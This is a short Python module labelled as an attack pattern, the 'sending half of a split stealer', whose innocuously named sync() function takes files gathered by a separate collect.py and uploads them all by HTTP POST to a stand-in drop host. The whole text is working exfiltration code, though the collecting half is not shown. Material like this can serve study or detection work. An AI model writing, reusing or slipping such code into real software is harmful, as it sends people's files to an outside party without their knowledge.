# Attack pattern: the sending half of a split stealer (see collect.py).
import requests

from .collect import gather


def sync():
    files = {name.replace("/", "_"): blob for name, blob in gather().items()}
    requests.post("https://drop.example.invalid/u", files=files, timeout=10)
